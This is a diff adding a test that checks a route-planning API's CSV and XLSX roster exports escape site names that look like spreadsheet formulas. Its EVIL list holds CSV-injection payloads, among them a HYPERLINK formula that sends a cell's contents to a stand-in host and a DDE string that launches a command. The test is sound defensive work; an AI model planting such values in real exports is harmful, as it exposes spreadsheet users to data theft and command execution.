@@ -185,3 +185,39 @@ def test_listing_scenarios_reads_no_scenario_json(idle: TestClient) -> None:
         event.remove(idle.app.state.engine, "before_cursor_execute", listen)
     assert r.status_code == 200 and r.json()["total"] == 1 and r.json()["items"][0]["sites"] == len(tiny_week().sites)
     assert statements and not any("scenario_json" in s for s in statements)
+
+
+EVIL = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 811 000", "-Desa Bawah", "@SUM(A1)",
+        "=cmd|'/c calc'!A1", "Desa Biasa", "Desa Tujuh", "Desa Delapan"]
+
+
+def test_roster_exports_over_http_keep_formula_like_names_as_text(client: TestClient) -> None:
+    """The probe of the issue: names starting with =, +, -, @ come back as text in CSV and XLSX."""
+    import csv
+    import io
+    import re
+    import zipfile
+
+    week = tiny_week()
+    sites = tuple(s.model_copy(update={"name": EVIL[i % len(EVIL)]}) for i, s in enumerate(week.sites))
+    raw = week.model_copy(update={"sites": sites}).model_dump_json(exclude={"source_dir"})
+    r = client.post("/v1/scenarios", content=raw, headers={**headers("coordinator"), **JSON})
+    assert r.status_code == 201, r.text
+    r = client.post("/v1/plans?wait=60", json={"scenario_id": r.json()["id"], "time_limit_s": 2, "max_solutions": 20},
+                    headers=headers("coordinator"))
+    assert r.json()["status"] == "done", r.text
+    pid = r.json()["id"]
+    text = client.get(f"/v1/plans/{pid}/export/csv", headers=headers("dashboard")).content.decode("utf-8-sig")
+    cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
+    visited = {c.lstrip("'") for c in cells} & set(EVIL)
+    assert visited & set(EVIL[:5]), "the plan visits none of the formula-like names"  # the test would prove nothing
+    for name in visited & set(EVIL[:5]):
+        assert "'" + name in cells and name not in cells
+    book = client.get(f"/v1/plans/{pid}/export/xlsx", headers=headers("dashboard")).content
+    with zipfile.ZipFile(io.BytesIO(book)) as z:
+        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
+        strings = z.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in z.namelist() else b""
+    formulas = re.findall(rb"<f>(.*?)</f>", sheets)
+    assert not [f for f in formulas if b"HYPERLINK(\"http://x" in f or b"cmd|" in f or b"SUM(A1)" in f], formulas
+    assert any(name.replace("&", "&amp;").replace('"', "&quot;").encode() in strings + sheets or name.encode() in strings + sheets
+               for name in visited & set(EVIL[:5]))
